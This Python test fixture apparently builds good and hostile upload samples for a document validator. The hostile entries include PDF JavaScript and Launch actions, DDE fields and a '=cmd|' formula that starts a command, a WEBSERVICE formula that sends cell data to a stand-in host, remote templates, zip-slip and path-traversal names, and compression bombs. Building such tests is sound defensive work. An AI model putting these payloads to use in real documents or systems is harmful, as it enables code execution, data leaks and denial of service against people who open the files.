"""Good and hostile files, built when a test runs: nothing binary is kept in the repository, and each trick can be read.

GOOD: {file name: content}.  HOSTILE: {trick: (file name, content, code of the refusal)}.  What is heavy to build is a
function; content_of() gives the bytes either way.
"""

from tests.corpus import charts, pdfs, pictures
from tests.corpus import documents as office
from tests.corpus.documents import archive, docx, field, odf, pptx, relations, word, xlsx
from tests.corpus.pdfs import annotation, encrypted, flate, object_streams, pdf, saved, stream
from tests.corpus.pictures import picture

HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAR = archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(400)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(400)

GOOD = {
    "teks.pdf": pdf(),
    "Peraturan Gubernur No. 7.PDF": pdf(),
    "pindai.pdf": pdfs.scanned_page(),
    "aliran-objek.pdf": object_streams(pdf()),
    "linier.pdf": saved(pdf(), linearize=True),
    "tautan.pdf": pdf(page=annotation(b"/Subtype /Link /A << /S /URI /URI (https://spbe.go.id/js) >>")),
    "buka-halaman.pdf": pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "catatan-js.pdf": pdf(page=annotation(b"/Subtype /Text /Contents (tentang /JavaScript dan /Launch)")),
    "ditandatangani.pdf": pdf(b"<< /FT /Sig /T (ttd) >>", catalog=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>"),
    "baris-akhir.pdf": pdf() + b"\r\n\r\n",
    "foto.jpg": picture("JPEG", (800, 600)),
    "foto.JPEG": picture("JPEG", progressive=True),
    "foto-cmyk.jpg": picture("JPEG", mode="CMYK"),
    "foto-dengan-pratinjau.jpg": picture("JPEG") + bytes(64) + picture("JPEG", (300, 200)),
    "tangkapan.png": picture("PNG", (800, 600)),
    "palet.png": picture("PNG", mode="P"),
    "abu-abu.png": picture("PNG", mode="1"),
    "transparan.png": picture("PNG", mode="RGBA", optimize=True),
    "berselang.png": pictures.interlaced(),
    "surat.docx": docx(links=[("hyperlink", "https://jdih.go.id/dde/", "External"), ("styles", "styles.xml")]),
    "daftar-isi.docx": docx(body=field("TOC \\o ", "&quot;1-3&quot;") + field("HYPERLINK &quot;https://a/DDE&quot;")),
    "rekap.xlsx": xlsx(),
    "rumus.xlsx": xlsx(formula="=IF('Data | 2022'!A1=\"cmd|a!b\",1,0)"),
    "zip64.docx": office.zip64(),
    "paparan.pptx": pptx(links=[("image", "../media/a.png")], extra={"ppt/media/a.png": picture("PNG")}),
    "surat.odt": odf(body='<text:a xlink:href="https://jdih.go.id">JDIH</text:a>'),
    "rekap.ods": odf("spreadsheet", '<table:table-cell table:formula="of:=SUM({1;2|3;4})"/>'),
    "bergambar.odt": odf(body='<draw:image xlink:href="Pictures/a.png"/>', extra={"Pictures/a.png": picture("PNG")}),
    **charts.GOOD,
}


def _active(*extra, **places):
    return "a.pdf", pdf(*extra, **places), "active_pdf"


def _action(dictionary):
    return _active(catalog=b"/OpenAction " + dictionary)


def _document(code, *arguments, **changes):
    return "a.docx", docx(*arguments, **changes), code


ACTIVE_PDFS = {
    "pdf-javascript": _action(pdfs.JAVASCRIPT),
    "pdf-javascript-in-object-stream": (
        "a.pdf",
        object_streams(pdf(pdfs.JAVASCRIPT, catalog=b"/OpenAction 6 0 R")),
        "active_pdf",
    ),
    "pdf-javascript-spelt-with-hex": _action(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "pdf-javascript-in-names-tree": _active(catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
    "pdf-javascript-in-form-field": _active(
        b"<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (x) >> >> >>", catalog=b"/AcroForm << /Fields [6 0 R] >>"
    ),
    "pdf-javascript-in-annotation": _active(page=annotation(b"/Subtype /Link /A << /S /JavaScript /JS (x) >>")),
    "pdf-javascript-as-next-action": _action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (x) >>] >>"),
    "pdf-javascript-that-nothing-refers-to": _active(pdfs.JAVASCRIPT),
    "pdf-javascript-in-trailer": (
        "a.pdf",
        pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Info << /A << /S /JavaScript /JS (x) >> >>"),
        "active_pdf",
    ),
    "pdf-launch": _action(b"<< /S /Launch /F (cmd.exe) >>"),
    "pdf-submit-form": _active(page=annotation(b"/Subtype /Link /A << /S /SubmitForm /F (https://a.b) >>")),
    "pdf-import-data": _action(b"<< /S /ImportData /F (a.fdf) >>"),
    "pdf-go-to-remote": _action(b"<< /S /GoToR /F (//10.0.0.1/a.pdf) /D [0 /Fit] >>"),
    "pdf-go-to-embedded": _action(b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
    "pdf-embedded-file": _active(*pdfs.ATTACHMENT, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"),
    "pdf-embedded-file-that-nothing-refers-to": _active(b"null", stream(b"/Type /EmbeddedFile", b"MZ")),
    "pdf-associated-file": _active(*pdfs.ATTACHMENT, catalog=b"/AF [6 0 R]"),
    "pdf-file-attachment-annotation": _active(*pdfs.ATTACHMENT, page=annotation(b"/Subtype /FileAttachment /FS 6 0 R")),
    "pdf-portfolio": _active(catalog=b"/Collection << /View /T >>"),
    "pdf-xfa": _active(stream(b"", b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
    "pdf-rich-media": _active(page=annotation(b"/Subtype /RichMedia /RichMediaContent << >>")),
    "pdf-movie": _active(page=annotation(b"/Subtype /Movie /Movie << >>")),
    "pdf-3d": _active(page=annotation(b"/Subtype /3D")),
}
BROKEN_PDFS = {
    "pdf-encrypted": ("a.pdf", encrypted(pdf(), "rahasia"), "password"),
    "pdf-restricted": ("a.pdf", encrypted(pdf(), "", pdfs.NO_COPYING), "password"),
    "pdf-truncated": ("a.pdf", pdf()[:-40], "truncated"),
    "pdf-truncated-half": ("a.pdf", object_streams(pdf())[:400], "truncated"),
    "pdf-linearized-truncated": ("a.pdf", saved(pdf(pdfs.noise()), linearize=True)[:-3000], "truncated"),
    "pdf-without-objects": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "truncated"),
    "pdf-without-pages": ("a.pdf", pdf().replace(b"[3 0 R] /Count 1", b"[     ] /Count 0"), "truncated"),
    "pdf-with-wrong-table": ("a.pdf", pdf().replace(b"startxref\n", b"startxref\n1"), "truncated"),
    "pdf-behind-html": ("a.pdf", HTML + pdf(), "polyglot"),
    "pdf-with-html-behind": ("a.pdf", pdf() + HTML * 40, "polyglot"),
    "pdf-with-zip-behind": ("a.pdf", pdf() + JAR, "polyglot"),
    "pdf-javascript-nested-deeply": ("a.pdf", pdf(b"[" * 600 + pdfs.JAVASCRIPT + b"]" * 600), "unreadable"),
    "pdf-bomb": ("a.pdf", lambda: pdf(flate(b"", bytes(70_000_000))), "bomb"),
    "pdf-bomb-of-many-streams": ("a.pdf", lambda: pdf(*[flate(b"", bytes(30_000_000))] * 10), "bomb"),
    "pdf-double-deflated": ("a.pdf", pdf(stream(b"/Filter [/FlateDecode /FlateDecode]", b"x")), "bomb"),
    "pdf-pixel-flood": ("a.pdf", pdf(flate(b"/Subtype /Image /Width 60000 /Height 60000", b"\0")), "pixels"),
}
PICTURES = {
    "png-truncated": ("a.png", picture("PNG", (400, 300))[:-20], "truncated"),
    "png-cut-after-signature": ("a.png", picture("PNG")[:10], "truncated"),
    "png-without-header": ("a.png", pictures.png(40, 30, b"")[:8] + pictures.chunk(b"IDAT", b""), "truncated"),
    "png-of-no-size": ("a.png", pictures.png(0, 30, b""), "unreadable"),
    "png-without-pixels": ("a.png", pictures.png(40, 30, b""), "truncated"),
    "png-with-too-few-pixels": ("a.png", pictures.png(40, 30, bytes(100)), "truncated"),
    "png-with-changed-byte": ("a.png", pictures.damaged(), "truncated"),
    "png-30000-pixels-wide": ("a.png", pictures.png(30_000, 30_000, b""), "pixels"),
    "png-bomb": ("a.png", lambda: pictures.png(10, 10, bytes(50_000_000)), "bomb"),
    "png-animated": ("a.png", pictures.animated("PNG"), "animation"),
    "png-with-zip-behind": ("a.png", picture("PNG") + JAR, "polyglot"),
    "png-with-html-behind": ("a.png", picture("PNG") + HTML * 40, "polyglot"),
    "jpg-truncated": ("a.jpg", picture("JPEG", (400, 300))[:-300], "truncated"),
    "jpg-without-end": ("a.jpg", picture("JPEG")[:-2], "truncated"),
    "jpg-without-picture": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9", "truncated"),
    "jpg-30000-pixels-wide": ("a.jpg", pictures.resized_jpeg(30_000, 30_000), "pixels"),
    "jpg-of-too-many-scans": ("a.jpg", pictures.many_scans(), "bomb"),
    "jpg-with-script-behind": ("a.jpg", picture("JPEG") + b"*/=alert(1)" * 200, "polyglot"),
    "jpg-with-zip-behind": ("a.jpg", picture("JPEG") + JAR, "polyglot"),
    "gifar": ("a.gif", picture("GIF") + JAR, "type"),
    "gif-named-png": ("a.png", picture("GIF"), "type"),
    "tiff-named-png": ("a.png", picture("TIFF"), "type"),
    "webp-named-jpg": ("a.jpg", picture("WEBP"), "type"),
}
OTHER_KINDS = {
    "empty": ("a.pdf", b"", "empty"),
    "svg": ("a.svg", SVG, "type"),
    "svg-named-png": ("a.png", SVG, "type"),
    "html-named-pdf": ("a.pdf", HTML, "type"),
    "xhtml-named-docx": ("a.docx", b'<?xml version="1.0"?>' + HTML, "type"),
    "xml-named-xlsx": ("a.xlsx", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "type"),
    "mht-named-docx": ("a.docx", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "type"),
    "rtf-named-docx": ("a.docx", b"{\\rtf1 {\\object}}", "type"),
    "javascript": ("a.js", b"alert(1)", "type"),
    "exe-named-pdf": ("a.pdf", EXE, "type"),
    "pdf-named-exe": ("surat.pdf.exe", pdf(), "type"),
    "lnk-named-pdf": ("a.pdf", LNK, "type"),
    "zip": ("a.zip", JAR, "type"),
    "zip-named-docx": ("a.docx", JAR, "type"),
    "rar-named-docx": ("a.docx", b"Rar!\x1a\x07\x01\x00" + bytes(100), "type"),
    "empty-zip-named-docx": ("a.docx", archive({}), "type"),
    "old-word-named-docx": ("a.docx", office.compound("WordDocument"), "type"),
    "old-word": ("a.doc", office.compound("WordDocument"), "type"),
    "docx-encrypted": ("a.docx", office.compound("EncryptedPackage"), "password"),
    "png-named-pdf": ("a.pdf", picture("PNG"), "name_mismatch"),
    "pdf-named-jpg": ("a.jpg", pdf(), "name_mismatch"),
    "xlsx-named-docx": ("a.docx", xlsx(), "name_mismatch"),
    "odt-named-docx": ("a.docx", odf(), "name_mismatch"),
    "no-extension": ("surat", pdf(), "type"),
    "name-hides-exe-by-right-to-left": ("surat\u202efdp.exe", EXE, "type"),
    "name-with-nul": ("a.php\x00.pdf", b"<?php", "type"),
    "name-with-path": ("../../etc/passwd", b"root:x:0:0", "type"),
}
DOCUMENTS = {
    "docm-named-docx": _document("macro", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "docx-macro-part": _document("macro", {"word/vbaProject.bin": b"x"}),
    "docx-macro-relation": _document("macro", links=[("vbaProject", "a.bin")]),
    "xlsm-named-xlsx": ("a.xlsx", xlsx(extra={"xl/vbaProject.bin": b"x"}), "macro"),
    "xlsx-excel-4-macro": ("a.xlsx", xlsx(extra={"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "docx-activex": _document("macro", {"word/activeX/activeX1.xml": "<a/>"}),
    "docx-ole-package": _document("embedded", {"word/embeddings/oleObject1.bin": office.compound("Ole10Native")}),
    "docx-ole-elsewhere": _document("embedded", {"word/media/image1.png": office.compound("Ole10Native")}),
    "docx-ole-relation": _document("embedded", links=[("oleObject", "https://a.b/x.html!", "External")]),
    "docx-alternative-chunk": _document("embedded", {"word/a.mht": "x"}, links=[("aFChunk", "a.mht")]),
    "docx-with-program": _document("embedded", {"word/media/image1.png": EXE}),
    "docx-with-archive": _document("embedded", {"word/media/image1.png": JAR}),
    "docx-nested-bomb": _document("embedded", {"word/media/a.zip": office.nested()}),
    "docx-external-template": _document(
        "external", {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://a.b/x.dotm", "External"))}
    ),
    "docx-external-picture": _document("external", links=[("image", "https://a.b/x.png", "External")]),
    "docx-external-vml-picture": _document("external", body='<w:pict><v:imagedata src="\\\\10.0.0.1\\a"/></w:pict>'),
    "docx-link-that-starts-a-program": _document("external", links=[("hyperlink", "ms-msdt:/id", "External")]),
    "docx-dde": _document("external", body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
    "docx-dde-over-many-runs": _document("external", body=field(" D", "D", "E ", "excel a")),
    "docx-dde-simple-field": _document("external", body='<w:fldSimple w:instr=" dde excel a b"/>'),
    "docx-dde-from-numbers": _document("external", body=field("QUOTE 68 68 69")),
    "docx-dde-in-utf-16": _document("external", {"word/footer1.xml": word(field("DDE a b")).encode("utf-16")}),
    "docx-main-part-with-another-ending": (
        "a.docx",
        office.main_part_named("document.bin", field("DDE a b")),
        "external",
    ),
    "xlsx-dde-formula": ("a.xlsx", xlsx("=cmd|'/c calc'!A0"), "external"),
    "xlsx-web-function": ("a.xlsx", xlsx('=_xlfn.WEBSERVICE("https://a.b/"&A1)'), "external"),
    "xlsx-external-link": ("a.xlsx", xlsx(extra={"xl/externalLinks/externalLink1.xml": "<a/>"}), "external"),
    "xlsx-connection": ("a.xlsx", xlsx(extra={"xl/connections.xml": "<connections/>"}), "external"),
    "pptx-runs-a-program": ("a.pptx", pptx('<hlinkClick action="ppaction://program"/>'), "macro"),
    "pptx-external-video": ("a.pptx", pptx(links=[("video", "https://a.b/x.mp4", "External")]), "external"),
    "odt-macro": ("a.odt", odf(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macro"),
    "odt-macro-event": ("a.odt", odf(body='<script:event-listener script:event-name="dom:load"/>'), "macro"),
    "odt-encrypted": ("a.odt", odf(manifest="<manifest:encryption-data/>"), "password"),
    "odt-of-two-kinds": ("a.odt", odf(root="application/vnd.oasis.opendocument.spreadsheet"), "archive"),
    "odt-ole-in-manifest": (
        "a.odt",
        odf(manifest='<a full-path="Object 1" media-type="application/vnd.sun.star.oleobject"/>'),
        "embedded",
    ),
    "odt-link-to-macro": ("a.odt", odf(body='<text:a xlink:href="vnd.sun.star.script:a"/>'), "macro"),
    "odt-link-that-starts-a-program": ("a.odt", odf(body='<text:a xlink:href="ms-msdt:/id"/>'), "external"),
    "odt-dde": ("a.odt", odf(body='<text:dde-connection-decl office:dde-application="soffice"/>'), "external"),
    "odt-external-picture": ("a.odt", odf(body='<draw:image xlink:href="https://a.b/x.png"/>'), "external"),
    "odt-external-template": (
        "a.odt",
        odf(extra={"meta.xml": '<m xmlns:l="a"><template l:href="file://server/x.ott"/></m>'}),
        "external",
    ),
    "odt-frame": ("a.odt", odf(body='<draw:floating-frame xlink:href="a"/>'), "embedded"),
    "odt-ole": ("a.odt", odf(body='<draw:object-ole xlink:href="./Object 1"/>'), "embedded"),
    "ods-dde-formula": (
        "a.ods",
        odf("spreadsheet", "<table:table-cell table:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;)'/>"),
        "external",
    ),
    "odt-template": ("a.odt", odf(mime="application/vnd.oasis.opendocument.text-template"), "type"),
    "odt-without-content": ("a.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text"}), "truncated"),
    "docx-billion-laughs": _document("bomb", {"word/footer1.xml": office.BILLION_LAUGHS}),
    "docx-outside-entity": _document("bomb", {"word/footer1.xml": office.OUTSIDE_ENTITY}),
    "docx-outside-entity-in-relations": _document("bomb", {"word/_rels/a.xml.rels": office.OUTSIDE_ENTITY}),
    "docx-huge-relations": (
        "a.docx",
        lambda: docx({"word/_rels/a.xml.rels": f"<a>{office.words(4_200_000)}</a>"}),
        "bomb",
    ),
    "docx-huge-field": ("a.docx", lambda: docx(body=field(office.words(4_200_000))), "bomb"),
    "docx-broken-relations": _document("truncated", {"word/_rels/a.xml.rels": "<a>"}),
    "docx-without-relations": ("a.docx", office.main_part_named("a.xml", "", relations_at="_rels/none"), "truncated"),
    "docx-dde-between-tags": _document("external", body=field("D<w:proofErr>D</w:proofErr>E a b")),
    "docx-broken-xml": _document("truncated", {"word/footer1.xml": "<a><b></a>"}),
    "docx-truncated": ("a.docx", docx()[:-60], "truncated"),
    "docx-truncated-half": ("a.docx", docx()[:500], "truncated"),
    "docx-without-main-part": ("a.docx", office.main_part_named("missing.xml", "", write=False), "truncated"),
    "docx-two-main-parts": ("a.docx", office.two_main_parts(), "archive"),
    "docx-template": _document("type", main=f"{office.OOXML}wordprocessingml.template.main+xml"),
    "docx-with-changed-byte": ("a.docx", office.damaged(), "truncated"),
}
ARCHIVES = {
    "zip-bomb": ("a.docx", lambda: docx({"word/media/a.bmp": bytes(30_000_000)}), "bomb"),
    "zip-bomb-with-lying-size": ("a.docx", office.told(office.with_zeros(), "word/media/a.bmp", size=1000), "bomb"),
    "zip-bomb-of-many-members": (
        "a.docx",
        lambda: docx({f"word/media/{n}.bmp": office.grain() for n in range(9)}),
        "bomb",
    ),
    "zip-quoted-overlap": ("a.docx", office.quoted_overlap(), "bomb"),
    "zip-of-3000-members": ("a.docx", lambda: office.many_members(3_000), "bomb"),
    "zip64-of-a-million-members": ("a.docx", office.zip64(1_000_000), "bomb"),
    "zip64-cut": ("a.docx", office.cut_zip64(), "truncated"),
    "zip-without-members": ("a.docx", office.directory_only(), "type"),
    "zip-member-behind-the-end": ("a.docx", office.offset_behind_the_end(), "truncated"),
    "zip-duplicate-member": ("a.docx", office.duplicate_member(), "archive"),
    "zip-two-names-for-one-member": ("a.docx", office.renamed_in_directory(), "archive"),
    "zip-symbolic-link": _document("archive", {office.symbolic_link("word/a.xml"): "/etc/passwd"}),
    "zip-absolute-name": _document("archive", {"/etc/cron.d/a": "x"}),
    "zip-name-with-parent": _document("archive", {"word/../../a": "x"}),
    "zip-name-with-backslash": _document("archive", {"word\\..\\a": "x"}),
    "zip-name-with-nul": ("a.docx", docx({"word/aXb.txt": "x"}).replace(b"aXb.txt", b"a\0b.txt"), "archive"),
    "zip-encrypted-member": ("a.docx", office.encrypted_member(), "password"),
    "zip-with-data-before-members": ("a.docx", b"PK\x03\x04" + bytes(60) + docx(), "polyglot"),
    "zip-with-data-behind": ("a.docx", docx() + HTML * 40, "polyglot"),
    "zip-with-junk-behind-member": ("a.docx", office.junk_behind_member(), "truncated"),
    "zip-with-hidden-data": ("a.docx", office.hidden_data(), "polyglot"),
}
HOSTILE = ACTIVE_PDFS | BROKEN_PDFS | PICTURES | OTHER_KINDS | DOCUMENTS | ARCHIVES | charts.HOSTILE


def content_of(content):
    return content() if callable(content) else content
